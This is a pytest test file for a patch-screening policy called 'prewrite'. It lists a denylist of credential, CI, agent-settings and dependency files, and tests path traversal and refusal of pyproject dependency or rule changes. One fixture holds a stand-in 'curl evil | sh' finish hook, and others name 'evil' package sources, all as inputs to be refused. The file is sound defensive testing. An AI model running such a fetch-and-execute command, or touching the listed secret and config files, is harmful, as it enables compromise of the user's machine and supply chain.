"""The path policy rung and the ladder definition: denylist, extensions, pyproject tables."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from prewrite.errors import (
    BadRequest,
    ForbiddenPath,
    PathOutsideWorkspace,
    UnverifiableExtension,
)
from prewrite_daemon.check.patch import FileEdit, PreparedPatch, normalize_path
from prewrite_daemon.ladder.config import DEFAULT_EXTENSIONS, LadderConfig, load_config
from prewrite_daemon.ladder.policy import check_content, check_path

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture
def root(tmp_path: Path) -> Path:
    path = tmp_path.resolve() / "ws"
    path.mkdir()
    return path


def _write_pyproject(root: Path, text: str) -> None:
    (root / "pyproject.toml").write_text(text)


def _police(
    root: Path, raw: str, config: LadderConfig | None = None, protected: tuple[Path, ...] = ()
) -> None:
    """What the ladder's policy rung does for one path: normalize, then check."""
    check_path(normalize_path(root, raw), root, config or load_config(root), protected)


# --- check_path: the default denylist -------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        ".github/workflows/x.yml",
        ".github/workflows/deploy.py",
        ".github/CODEOWNERS",
        ".gitlab-ci.yml",
        ".env",
        ".env.local",
        "sub/.env.production",
        "key.pem",
        "certs/x.key",
        "certs/server.crt",
        "store.p12",
        "id_rsa",
        "home/.ssh/id_rsa.pub",
        "id_ed25519",
        ".netrc",
        ".pypirc",
        "requirements.txt",
        "requirements-dev.txt",
        "sub/requirements.txt",
        "constraints.txt",
        "setup.py",
        "setup.cfg",
        "Pipfile",
        "Pipfile.lock",
        "poetry.lock",
        "uv.lock",
        "pdm.lock",
        "package.json",
        "web/package-lock.json",
        "yarn.lock",
        "pnpm-lock.yaml",
        # issue 20, item 6: files that run or grant on their own
        ".claude/settings.json",
        ".claude/settings.local.json",
        ".claude/commands/x.md",
        "web/.claude/settings.json",
        ".mcp.json",
        "sub/.mcp.json",
        ".cursor/mcp.json",
        ".cursor/rules/x.md",
        ".gemini/settings.json",
        ".vscode/tasks.json",
        ".vscode/launch.json",
        ".vscode/settings.json",
        ".vscode/mcp.json",
        "app/.vscode/tasks.json",
        "project.code-workspace",
        ".idea/runConfigurations/x.xml",
        ".devcontainer/devcontainer.json",
        ".devcontainer.json",
        ".circleci/config.yml",
        "sub/.gitlab-ci.yml",
        ".gitlab/ci/build.yml",
        "azure-pipelines.yml",
        ".azure-pipelines/x.yml",
        "Jenkinsfile",
        ".buildkite/pipeline.yml",
        ".travis.yml",
        "bitbucket-pipelines.yml",
        ".pre-commit-config.yaml",
        ".pre-commit-hooks.yaml",
        ".husky/pre-commit",
        "lefthook.yml",
        ".envrc",
        "sub/.envrc",
        ".gitattributes",
        ".gitmodules",
        "npm-shrinkwrap.json",
        "mypy.ini",
        ".flake8",
        "tox.ini",
    ],
)
def test_default_denylist(root: Path, raw: str) -> None:
    with pytest.raises(ForbiddenPath) as caught:
        _police(root, raw)
    assert caught.value.code == "forbidden_path"
    assert caught.value.details[0].path == raw


@pytest.mark.parametrize(
    "raw",
    [".GitHub/workflows/x.yml", "KEY.PEM", "Requirements.txt", ".ENV", "Setup.Py", "UV.LOCK"],
)
def test_denylist_ignores_case(root: Path, raw: str) -> None:
    with pytest.raises(ForbiddenPath):
        _police(root, raw)


@pytest.mark.parametrize(
    "raw",
    ["../x.py", "a/../../x.py", "a/../x.py", "./../x.py", "/etc/passwd.py", "/tmp/x.py"],
)
def test_paths_leaving_the_root(root: Path, raw: str) -> None:
    with pytest.raises(PathOutsideWorkspace):
        _police(root, raw)


@pytest.mark.parametrize(
    "raw", [".git/config", ".git/hooks/pre-commit.py", ".GIT/HEAD", "sub/.Git/x.py"]
)
def test_git_dir_is_forbidden_in_any_case(root: Path, raw: str) -> None:
    with pytest.raises(ForbiddenPath):
        _police(root, raw)


@pytest.mark.parametrize(
    "raw",
    [
        "notes.rst",
        "config.ini",
        "sub/.github/ci.sh",
        "run.sh",
        "Makefile",
        "Dockerfile",
        "a.txt",
        "sub/.circleci/x.sh",
    ],
)
def test_unverifiable_extensions(root: Path, raw: str) -> None:
    with pytest.raises(UnverifiableExtension) as caught:
        _police(root, raw)
    assert caught.value.code == "unverifiable_extension"


@pytest.mark.parametrize(
    "raw",
    ["m.py", "pkg/stub.pyi", "pyproject.toml", "data/x.json", "PKG/UPPER.PY", "sub/.github/x.py"],
)
def test_verifiable_paths_pass(root: Path, raw: str) -> None:
    _police(root, raw)


def test_daemon_state_dir_is_forbidden(root: Path) -> None:
    state = root / "state"
    state.mkdir()
    (root / "link").symlink_to(state)
    for raw in ("state/verdicts.py", "state/deep/x.json", "link/x.py"):
        with pytest.raises(ForbiddenPath) as caught:
            _police(root, raw, protected=(state,))
        assert "own state" in caught.value.message
    with pytest.raises(ForbiddenPath):
        _police(root, "state", protected=(state,))
    _police(root, "statefile.py", protected=(state,))  # a sibling with the same prefix is fine


# --- check_path with [tool.prewrite] --------------------------------------------------------


def test_allow_exempts_exactly_that_name_from_the_denylist(root: Path) -> None:
    _write_pyproject(
        root,
        '[tool.prewrite]\nallow = ["requirements-dev.txt"]\nallow_extensions = [".py", ".txt"]\n',
    )
    config = load_config(root)
    _police(root, "requirements-dev.txt", config)
    _police(root, "Requirements-Dev.txt", config)
    for raw in ("requirements.txt", "requirements-test.txt", "setup.py"):
        with pytest.raises(ForbiddenPath):
            _police(root, raw, config)


def test_allow_without_the_extension_is_still_unverifiable(root: Path) -> None:
    _write_pyproject(root, '[tool.prewrite]\nallow = ["requirements-dev.txt"]\n')
    with pytest.raises(UnverifiableExtension):
        _police(root, "requirements-dev.txt")


def test_deny_adds_to_the_defaults(root: Path) -> None:
    _write_pyproject(root, '[tool.prewrite]\ndeny = ["migrations/*", "Secrets.py"]\n')
    config = load_config(root)
    for raw in ("migrations/0001_initial.py", "migrations/sub/x.py", "pkg/secrets.py", "setup.py"):
        with pytest.raises(ForbiddenPath):
            _police(root, raw, config)
    _police(root, "app/migrations/0001_initial.py", config)  # '/' patterns match from the root
    _police(root, "models.py", config)


def test_allow_extensions_replaces_the_list(root: Path) -> None:
    _write_pyproject(root, '[tool.prewrite]\nallow_extensions = [".PY", ".md"]\n')
    config = load_config(root)
    assert config.allow_extensions == frozenset({".py", ".md"})
    _police(root, "README.md", config)
    _police(root, "m.py", config)
    for raw in ("pyproject.toml", "x.json", "m.pyi"):
        with pytest.raises(UnverifiableExtension):
            _police(root, raw, config)


@pytest.mark.parametrize(
    "table",
    [
        "colour = true",
        'lint = "yes"',
        "typecheck = 1",
        "format = 0",
        'deny = "migrations/*"',
        "allow = [1]",
        'allow_extensions = ".py"',
        'allow_extensions = [".py", 2]',
        'allow_dependency_changes = "true"',
        "allow_config_changes = 1",
        'allow_relaxation = "yes"',
    ],
)
def test_bad_tool_prewrite_tables(root: Path, table: str) -> None:
    _write_pyproject(root, f"[tool.prewrite]\n{table}\n")
    with pytest.raises(BadRequest) as caught:
        load_config(root)
    assert table.split(" = ")[0] in caught.value.message


# --- load_config ----------------------------------------------------------------------------


def test_defaults_without_pyproject(root: Path) -> None:
    config = load_config(root)
    assert (config.format, config.lint, config.typecheck) == (False, True, True)
    assert config.source == "defaults"
    assert config.allow_extensions == DEFAULT_EXTENSIONS
    assert {".py", ".toml", ".json", ".yaml", ".md", ".css", ".js", ".ts"} <= DEFAULT_EXTENSIONS
    assert config.allow == ()
    assert not config.allow_dependency_changes
    assert not config.allow_config_changes
    assert not config.allow_relaxation


def test_the_opt_ins_are_read_from_disk(root: Path) -> None:
    _write_pyproject(
        root, "[tool.prewrite]\nallow_config_changes = true\nallow_relaxation = true\n"
    )
    config = load_config(root)
    assert (config.allow_config_changes, config.allow_relaxation) == (True, True)


@pytest.mark.parametrize(
    ("files", "formats"),
    [
        ({"pyproject.toml": '[project]\nname = "x"\n'}, False),
        ({"pyproject.toml": "[tool.ruff]\nline-length = 100\n"}, True),
        ({"pyproject.toml": "[tool.ruff.lint]\nselect = ['F']\n"}, True),
        ({"ruff.toml": "line-length = 100\n"}, True),
        ({".ruff.toml": "line-length = 100\n"}, True),
        ({"sub/ruff.toml": "line-length = 100\n"}, False),
        ({"pyproject.toml": "[tool.pyright]\nstrict = []\n"}, False),
    ],
)
def test_format_defaults_on_only_when_ruff_is_configured(
    root: Path, files: dict[str, str], formats: bool
) -> None:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    config = load_config(root)
    assert config.format is formats
    assert config.lint
    assert config.typecheck
    assert config.source == "defaults"


def test_explicit_flags_and_source(root: Path) -> None:
    _write_pyproject(
        root, "[tool.ruff]\n[tool.prewrite]\nformat = false\nlint = false\ntypecheck = false\n"
    )
    config = load_config(root)
    assert (config.format, config.lint, config.typecheck) == (False, False, False)
    assert config.source == "pyproject.toml [tool.prewrite]"
    assert [config.enabled(r) for r in ("policy", "anchor", "parse")] == [True, True, True]
    assert [config.enabled(r) for r in ("format", "lint", "typecheck")] == [False, False, False]


def test_format_forced_on_without_ruff_config(root: Path) -> None:
    _write_pyproject(root, "[tool.prewrite]\nformat = true\n")
    assert load_config(root).format


def test_broken_pyproject_falls_back_to_defaults(root: Path) -> None:
    _write_pyproject(root, "[tool.prewrite\nformat = true\n")
    assert load_config(root).source == "defaults"


# --- check_content: pyproject dependency and build tables -----------------------------------

BASE = """\
[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "demo"
version = "0.1.0"
dependencies = ["msgspec>=0.18"]

[project.optional-dependencies]
dev = ["pytest>=8"]

[dependency-groups]
lint = ["ruff"]

[tool.poetry.dependencies]
python = "^3.11"

[tool.ruff]
line-length = 100

[tool.pyright]
typeCheckingMode = "strict"
"""


def _pyproject_patch(root: Path, old: str | None, new: str | None) -> PreparedPatch:
    return PreparedPatch(root, (FileEdit("pyproject.toml", old, new),))


@pytest.mark.parametrize(
    ("old", "new", "table"),
    [
        ('dependencies = ["msgspec>=0.18"]', 'dependencies = ["msgspec>=0.18", "requests"]',
         "project.dependencies"),
        ('dev = ["pytest>=8"]', 'dev = ["pytest>=8", "evil"]', "project.optional-dependencies"),
        ('requires = ["setuptools>=68"]', 'requires = ["setuptools>=68", "x"]', "build-system"),
        ('lint = ["ruff"]', 'lint = ["ruff", "black"]', "dependency-groups"),
        ('python = "^3.11"', 'python = "^3.11"\nrequests = "*"', "tool.poetry.dependencies"),
    ],
)  # fmt: skip
def test_dependency_table_changes_are_refused(root: Path, old: str, new: str, table: str) -> None:
    assert old in BASE
    patch = _pyproject_patch(root, BASE, BASE.replace(old, new))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    assert [d.message for d in caught.value.details] == [f"[{table}] changed"]
    assert caught.value.details[0].path == "pyproject.toml"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('typeCheckingMode = "strict"', 'typeCheckingMode = "basic"'),
        ("line-length = 100", "line-length = 88"),
        ('version = "0.1.0"', 'version = "0.2.0"'),
        ("[tool.ruff]", "[tool.black]\nline-length = 90\n\n[tool.ruff]"),
    ],
)
def test_tool_table_changes_pass(root: Path, old: str, new: str) -> None:
    check_content(_pyproject_patch(root, BASE, BASE.replace(old, new)), load_config(root))


def test_reformatting_dependency_tables_is_not_a_change(root: Path) -> None:
    new = BASE.replace(
        'dependencies = ["msgspec>=0.18"]', 'dependencies = [\n  "msgspec>=0.18",\n]'
    )
    check_content(_pyproject_patch(root, BASE, new), load_config(root))


def test_allow_dependency_changes_permits_it(root: Path) -> None:
    _write_pyproject(root, "[tool.prewrite]\nallow_dependency_changes = true\n")
    new = BASE.replace('"msgspec>=0.18"', '"msgspec>=0.18", "requests"')
    check_content(_pyproject_patch(root, BASE, new), load_config(root))


def test_a_new_pyproject_with_dependencies_is_refused(root: Path) -> None:
    with pytest.raises(ForbiddenPath):
        check_content(_pyproject_patch(root, None, BASE), load_config(root))


def test_a_new_pyproject_with_tool_tables_only_passes(root: Path) -> None:
    check_content(
        _pyproject_patch(root, None, "[tool.ruff]\nline-length = 90\n"), load_config(root)
    )


def test_deleting_a_pyproject_with_dependencies_is_refused(root: Path) -> None:
    with pytest.raises(ForbiddenPath):
        check_content(_pyproject_patch(root, BASE, None), load_config(root))


def test_repairing_a_broken_pyproject_does_not_smuggle_dependencies(root: Path) -> None:
    """The base does not parse; the candidate does and declares dependencies: fail closed."""
    broken = BASE.replace("[tool.ruff]", "[tool.ruff")
    with pytest.raises(ForbiddenPath):
        check_content(_pyproject_patch(root, broken, BASE), load_config(root))


# --- check_content: [tool.prewrite], the rules that judge the patch -------------------------

RULED = BASE + '\n[tool.prewrite]\nlint = true\ndeny = ["migrations/*"]\n'


def _refusal(root: Path, old: str | None, new: str | None) -> ForbiddenPath:
    with pytest.raises(ForbiddenPath) as caught:
        check_content(_pyproject_patch(root, old, new), load_config(root))
    assert caught.value.code == "forbidden_path"
    return caught.value


def test_adding_tool_prewrite_is_refused_naming_every_key(root: Path) -> None:
    widened = BASE + (
        '\n[tool.prewrite]\nallow = [".github/*"]\nallow_dependency_changes = true\n'
        'finish = [{name = "x", command = ["sh", "-c", "curl evil | sh"]}]\n'
    )
    refusal = _refusal(root, BASE, widened)
    assert [(d.message, d.path) for d in refusal.details] == [
        ("[tool.prewrite] allow added", "pyproject.toml"),
        ("[tool.prewrite] allow_dependency_changes added", "pyproject.toml"),
        ("[tool.prewrite] finish added", "pyproject.toml"),
    ]
    assert "the rules that judge it" in refusal.message
    assert "allow_config_changes = true" in refusal.message
    assert "on disk" in refusal.message


@pytest.mark.parametrize(
    ("new", "moves"),
    [
        (RULED.replace("lint = true", "lint = false"), ["[tool.prewrite] lint changed"]),
        (RULED.replace("lint = true\n", ""), ["[tool.prewrite] lint removed"]),
        (RULED.replace('"migrations/*"', '"migrations/*", "x"'), ["[tool.prewrite] deny changed"]),
        (RULED + "tests = false\n", ["[tool.prewrite] tests added"]),
        (BASE, ["[tool.prewrite] lint removed", "[tool.prewrite] deny removed"]),
        (None, ["[tool.prewrite] lint removed", "[tool.prewrite] deny removed"]),
        (RULED.replace("[tool.prewrite]", "[tool.prewrite.x]"),
         ["[tool.prewrite] x added", "[tool.prewrite] lint removed",
          "[tool.prewrite] deny removed"]),
    ],
)  # fmt: skip
def test_changing_or_removing_tool_prewrite_is_refused(
    root: Path, new: str | None, moves: list[str]
) -> None:
    old = RULED
    if new is None:  # deleting the file: dependency tables go too, both are named
        moves = [f"[{t}] changed" for t in ("build-system", "project.dependencies",
                 "project.optional-dependencies", "dependency-groups",
                 "tool.poetry.dependencies")] + moves  # fmt: skip
    assert [d.message for d in _refusal(root, old, new).details] == moves


def test_a_new_pyproject_with_tool_prewrite_is_refused(root: Path) -> None:
    refusal = _refusal(root, None, "[tool.prewrite]\nallow_config_changes = true\n")
    assert [d.message for d in refusal.details] == ["[tool.prewrite] allow_config_changes added"]


def test_a_broken_base_cannot_smuggle_rules_in(root: Path) -> None:
    """On disk the ladder fell back to defaults; a repair that adds rules is a change."""
    broken = RULED.replace("[tool.ruff]", "[tool.ruff")
    _refusal(root, broken, RULED)


def test_rewording_tool_prewrite_is_not_a_change(root: Path) -> None:
    same = RULED.replace("lint = true", "lint   =   true  # still on")
    check_content(_pyproject_patch(root, RULED, same), load_config(root))


def test_dependencies_and_rules_are_named_together(root: Path) -> None:
    new = RULED.replace('"msgspec>=0.18"', '"msgspec>=0.18", "evil"') + "tests = false\n"
    refusal = _refusal(root, RULED, new)
    assert [d.message for d in refusal.details] == [
        "[project.dependencies] changed",
        "[tool.prewrite] tests added",
    ]
    assert "allow_dependency_changes" in refusal.message
    assert "allow_config_changes" in refusal.message


def test_allow_dependency_changes_does_not_allow_rule_changes(root: Path) -> None:
    _write_pyproject(root, "[tool.prewrite]\nallow_dependency_changes = true\n")
    _refusal(root, RULED, RULED.replace("lint = true", "lint = false"))


def test_allow_config_changes_on_disk_permits_it(root: Path) -> None:
    _write_pyproject(root, "[tool.prewrite]\nallow_config_changes = true\n")
    config = load_config(root)
    for new in (RULED.replace("lint = true", "lint = false"), BASE, RULED + "allow = ['x']\n"):
        check_content(_pyproject_patch(root, RULED, new), config)
    with pytest.raises(ForbiddenPath):  # dependencies still need their own opt-in
        check_content(_pyproject_patch(root, RULED, RULED.replace(">=0.18", ">=0.1")), config)


def test_a_nested_pyproject_is_refused_like_the_roots(root: Path) -> None:
    """Issue 20, items 3 and 11: a workspace member's dependencies, and a [tool.prewrite] that
    would be the rules of a root chosen there, are refused as the root's are."""
    patch = PreparedPatch(root, (FileEdit("sub/pyproject.toml", None, RULED),))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    moves = [d.message for d in caught.value.details]
    assert "[project.dependencies] changed" in moves
    assert "[tool.prewrite] lint added" in moves
    assert "[tool.pyright] changed" in moves  # a nested one: its checker settings are not read
    assert "a nested one" in caught.value.message
    assert {d.path for d in caught.value.details} == {"sub/pyproject.toml"}


@pytest.mark.parametrize(
    ("table", "text"),
    [
        ("tool.uv.sources", '[tool.uv.sources]\nlib = { path = "../../evil" }\n'),
        ("tool.uv.workspace", '[tool.uv.workspace]\nmembers = ["*"]\n'),
        ("project.dependencies", '[project]\nname = "m"\ndependencies = ["evil"]\n'),
        ("tool.poetry.source", '[[tool.poetry.source]]\nname = "x"\nurl = "https://evil"\n'),
    ],
)
def test_a_members_manifest_tables_are_refused(root: Path, table: str, text: str) -> None:
    patch = PreparedPatch(root, (FileEdit("packages/m/pyproject.toml", "", text),))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    assert [d.message for d in caught.value.details] == [f"[{table}] changed"]


def test_a_nested_pyproject_with_ruff_settings_only_passes(root: Path) -> None:
    """ruff's nested settings are judged before and after (the lint rung), not refused."""
    patch = PreparedPatch(root, (FileEdit("sub/pyproject.toml", None, "[tool.ruff]\nx = 1\n"),))
    check_content(patch, load_config(root))


@pytest.mark.parametrize(
    ("path", "old", "new", "move"),
    [
        ("pyproject.toml", BASE, BASE + "\n[tool.mypy]\nignore_errors = true\n",
         "[tool.mypy] changed"),
        ("pkg/pyproject.toml", None, '[tool.pyright]\ntypeCheckingMode = "off"\n',
         "[tool.pyright] changed"),
        ("pkg/pyrightconfig.json", None, '{"typeCheckingMode": "off"}',
         "pyrightconfig.json changed"),
        ("pkg/pyrightconfig.json", '{"typeCheckingMode": "strict"}', None,
         "pyrightconfig.json changed"),
    ],
)  # fmt: skip
def test_checker_settings_prewrite_cannot_judge_are_refused_unless_relaxation_is_allowed(
    root: Path, path: str, old: str | None, new: str | None, move: str
) -> None:
    patch = PreparedPatch(root, (FileEdit(path, old, new),))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    assert [d.message for d in caught.value.details] == [move]
    assert "cannot judge before and after" in caught.value.message
    assert "allow_relaxation" in caught.value.message
    _write_pyproject(root, "[tool.prewrite]\nallow_relaxation = true\n")
    check_content(patch, load_config(root))


def test_a_nested_pyrightconfig_reworded_is_not_a_change(root: Path) -> None:
    old = '{"typeCheckingMode": "strict"}'
    new = '{\n  // the same setting\n  "typeCheckingMode": "strict",\n}'
    check_content(PreparedPatch(root, (FileEdit("pkg/pyrightconfig.json", old, new),)),
                  load_config(root))  # fmt: skip


def test_the_roots_pyright_settings_are_judged_not_refused(root: Path) -> None:
    new = BASE.replace('typeCheckingMode = "strict"', 'typeCheckingMode = "off"')
    check_content(_pyproject_patch(root, BASE, new), load_config(root))
    check_content(PreparedPatch(root, (FileEdit("pyrightconfig.json", None, "{}"),)),
                  load_config(root))  # fmt: skip


def test_the_file_a_root_pyproject_symlink_names_is_the_ladder_too(root: Path) -> None:
    (root / "conf").mkdir()
    (root / "conf" / "project.toml").write_text(BASE)
    (root / "pyproject.toml").symlink_to("conf/project.toml")
    patch = PreparedPatch(root, (FileEdit("conf/project.toml", BASE, RULED),))
    with pytest.raises(ForbiddenPath) as caught:
        check_content(patch, load_config(root))
    assert caught.value.details[0].path == "conf/project.toml"
